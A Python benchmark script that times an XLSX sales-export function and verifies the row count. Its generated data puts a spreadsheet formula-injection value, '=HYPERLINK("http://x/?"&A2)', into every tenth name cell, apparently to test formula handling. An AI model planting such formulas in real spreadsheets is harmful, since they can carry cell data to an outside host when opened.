"""XLSX export speed: the workbook of a sales export with --rows rows, wall and CPU time.

Builds rows shaped like `export sales` (a date, codes, a name, integers, three amounts, two
labels, a terminal, a moment; one text cell in ten starts with "=") and times
`handlers.core.workbooks.workbook`, then reads the file back with openpyxl to check the row count.

Run: `.venv/bin/python bench/exports.py [--rows 8000 80000]`.
"""

from __future__ import annotations

import argparse
import io
import sys
import time
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from openpyxl import load_workbook  # noqa: E402

from handlers.core.workbooks import workbook  # noqa: E402

HEADER = [
    "销售日期",
    "经销商",
    "经销商名称",
    "产品",
    "数量",
    "单价",
    "金额",
    "类型",
    "终端",
    "状态",
    "上报时间",
]


def rows(count: int) -> list[list[object]]:
    day, moment = date(2026, 7, 1), datetime(2026, 7, 1, 9, 0)
    return [
        [
            day + timedelta(days=n % 30),
            f"D{n % 500:03d}",
            '=HYPERLINK("http://x/?"&A2)' if n % 10 == 0 else f"华西医疗{n % 500}",
            "A100",
            1 + n % 40,
            Decimal("3500.50"),
            Decimal("3500.50") * (1 + n % 40),
            "零售",
            f"T-{n % 2000:04d}",
            "有效",
            moment + timedelta(minutes=n),
        ]
        for n in range(count)
    ]


def measure(count: int) -> None:
    data_rows = rows(count)
    wall, cpu = time.perf_counter(), time.process_time()
    data = workbook("sales", HEADER, data_rows)
    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    read = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    got = sum(1 for _ in read.iter_rows(values_only=True)) - 1
    assert got == count, (got, count)
    print(
        f"{count:>8} rows: {wall:7.2f} s wall, {cpu:7.2f} s CPU, "
        f"{count / wall:8.0f} rows/s, {len(data) / 1e6:6.2f} MB"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, nargs="+", default=[8000, 80000])
    for count in parser.parse_args().rows:
        measure(count)


if __name__ == "__main__":
    main()
